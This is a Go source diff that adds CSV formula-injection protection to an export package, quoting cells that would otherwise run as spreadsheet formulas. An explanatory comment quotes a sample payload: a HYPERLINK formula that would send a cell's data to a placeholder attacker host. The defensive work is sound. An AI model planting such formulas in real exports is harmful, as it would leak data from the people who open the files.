@@ -19,6 +19,20 @@
 // values; the package is only ever applied to the others. Plain output
 // (no mark, no tabs) is there for scripts that want it.
 //
+// A third thing is a danger rather than a nuisance: a spreadsheet runs a
+// cell that begins with = + - or @ as a formula (and a tab, carriage
+// return or line feed before one), so a batch named
+// =HYPERLINK("http://evil.example/?x="&A2,"Click") or a supplied
+// out_request_no -A1*1000 would run on the analyst's PC. Every CSV issuer
+// writes goes through Writer, which puts a single quote in front of such
+// a cell, as OWASP advises (Safe). It does so in every column and in
+// plain output too, since a plain file is opened in Excel as easily; only
+// a number issuer formatted itself (-12.50, a negative amount) and Text's
+// own tab-marked digit strings are left as they are, for neither is a
+// formula. A cell that begins with a quote gets one more, so that the
+// rule reads back exactly: a program drops one leading quote before
+// = + - @ tab CR LF or another quote (ReadAll does).
+//
 // The package owns no files and no I/O beyond the writer it is handed.
 package excelcsv
 
@@ -96,8 +110,80 @@ func needsText(s string) bool {
 	return len(s) >= 12 || s[0] == '0'
 }
 
+// formulaStart lists the first characters that make a spreadsheet read a
+// cell as a formula (or, for the quote, that Safe itself adds).
+const formulaStart = "=+-@\t\r\n'"
+
+// Safe returns s as a spreadsheet shows it without running it: with a
+// single quote in front when s begins with = + - @, a tab, a carriage
+// return, a line feed or a quote, unless s is a plain decimal number
+// (-12.50) or a digit string Text marked with its tab.
+func Safe(s string) string {
+	if s == "" || !strings.ContainsRune(formulaStart, rune(s[0])) || isNumber(s) || isMarkedDigits(s) {
+		return s
+	}
+	return "'" + s
+}
+
+// Unsafe undoes Safe: one leading quote before a character Safe guards.
+func Unsafe(s string) string {
+	if len(s) >= 2 && s[0] == '\'' && strings.ContainsRune(formulaStart, rune(s[1])) {
+		return s[1:]
+	}
+	return s
+}
+
+// isNumber reports whether s is -?digits(.digits)?: a value issuer
+// formatted from a number, which a spreadsheet reads as that number.
+func isNumber(s string) bool {
+	s = strings.TrimPrefix(s, "-")
+	whole, frac, dot := strings.Cut(s, ".")
+	return isDigits(whole) && (!dot || isDigits(frac))
+}
+
+// isMarkedDigits reports whether s is Text's form of a digit string.
+func isMarkedDigits(s string) bool { return len(s) > 1 && s[0] == '\t' && isDigits(s[1:]) }
+
+func isDigits(s string) bool {
+	if s == "" {
+		return false
+	}
+	for i := 0; i < len(s); i++ {
+		if s[i] < '0' || s[i] > '9' {
+			return false
+		}
+	}
+	return true
+}
+
+// Writer writes CSV records with every cell made Safe. It is the only way
+// issuer writes CSV.
+type Writer struct {
+	w   *csv.Writer
+	rec []string
+}
+
+// NewWriter returns a Writer on w.
+func NewWriter(w io.Writer) *Writer { return &Writer{w: csv.NewWriter(w)} }
+
+// Write writes one record; rec is not changed.
+func (w *Writer) Write(rec []string) error {
+	w.rec = w.rec[:0]
+	for _, c := range rec {
+		w.rec = append(w.rec, Safe(c))
+	}
+	return w.w.Write(w.rec)
+}
+
+// Flush writes any buffered data to the underlying writer.
+func (w *Writer) Flush() { w.w.Flush() }
+
+// Error reports any error of a previous Write or Flush.
+func (w *Writer) Error() error { return w.w.Error() }
+
 // ReadAll reads a file this package shaped as a program should: past the
-// byte-order mark, every value without the tab that keeps it text in Excel.
+// byte-order mark, every value as it was before Writer made it safe and
+// without the tab that keeps it text in Excel.
 func ReadAll(r io.Reader) ([][]string, error) {
 	br := bufio.NewReader(r)
 	if b, err := br.Peek(len(BOM)); err == nil && string(b) == BOM {
@@ -109,6 +195,10 @@ func ReadAll(r io.Reader) ([][]string, error) {
 	}
 	for _, rec := range recs {
 		for i := range rec {
+			if u := Unsafe(rec[i]); u != rec[i] {
+				rec[i] = u
+				continue
+			}
 			rec[i] = strings.TrimLeft(rec[i], "\t")
 		}
 	}
